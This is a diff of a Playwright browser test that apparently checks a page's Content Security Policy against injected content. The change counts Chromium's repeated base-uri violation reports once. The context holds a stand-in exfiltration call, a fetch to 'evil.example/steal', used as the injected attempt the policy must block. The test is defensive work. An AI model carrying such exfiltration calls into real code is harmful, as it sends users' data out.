@@ -92,7 +92,10 @@ test.describe('what is put into a page', () => {
       await fetch('https://evil.example/steal').catch(() => {})
     })
     const refused = () => violations.map((line) => line.split(' ').slice(0, 2).join(' ')).sort()
-    await expect.poll(refused).toEqual(REFUSALS)
+    // Chromium looks at a <base> again when what stands beside it changes.
+    const once = () =>
+      refused().filter((line, at, all) => !line.startsWith('base-uri') || line !== all[at - 1])
+    await expect.poll(once).toEqual(REFUSALS)
     expect(await page.evaluate(() => (window as unknown as { ran: string[] }).ran)).toEqual([])
     // The browser also reports requests that the policy stopped before they were sent.
     const left = foreign.filter((sent) => !/csp/i.test(sent.failure()?.errorText ?? ''))
